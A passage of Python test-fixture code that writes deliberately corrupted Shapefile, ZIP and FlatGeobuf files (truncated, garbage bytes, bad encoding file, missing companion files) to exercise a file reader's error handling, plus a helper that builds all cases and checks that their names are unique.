        ("shp_zip_cut", zdata[: len(zdata) // 2], ".zip"),
        ("shp_zip_garbage", garbage(4000, 8), ".zip"),
        ("shp_zero_bytes", b"", ".shp"),
        ("shp_garbage", garbage(4000, 9), ".shp"),
        ("fgb_garbage", garbage(4000, 10), ".fgb"),
    ]:
        p = folder / f"{name}{suffix}"
        p.write_bytes(blob)
        cases.append(Case(name, p))
    # a Shapefile whose .cpg names no encoding, and one whose .dbf is cut short
    for name in ("shp_bad_cpg", "shp_dbf_cut"):
        sub = folder / name
        sub.mkdir(exist_ok=True)
        for part in sorted(shp_dir.iterdir()):
            blob = part.read_bytes()
            if name == "shp_dbf_cut" and part.suffix == ".dbf":
                blob = blob[: len(blob) // 2]
            (sub / part.name).write_bytes(blob)
        if name == "shp_bad_cpg":
            (sub / "omraden.cpg").write_text("NO-SUCH-ENCODING-åäö", encoding="utf-8")
        cases.append(Case(name, sub / "omraden.shp"))
    # a .shp without its .dbf/.shx
    lone = folder / "lone"
    lone.mkdir(exist_ok=True)
    (lone / "omraden.shp").write_bytes((shp_dir / "omraden.shp").read_bytes())
    cases.append(Case("shp_without_dbf", lone / "omraden.shp"))
    return cases


BUILDERS: list[Callable[[Path], list[Case]]] = [
    text_cases,
    excel_cases,
    json_cases,
    police_cases,
    binary_cases,
]


def build_all(folder: Path) -> list[Case]:
    """Write every case into ``folder`` and return them (names unique)."""
    cases: list[Case] = []
    with warnings.catch_warnings():  # a NaN vertex, Shapefile field names cut to 10 letters
        warnings.simplefilter("ignore")
        for builder in BUILDERS:
            cases.extend(builder(folder))
    names = [c.name for c in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return cases
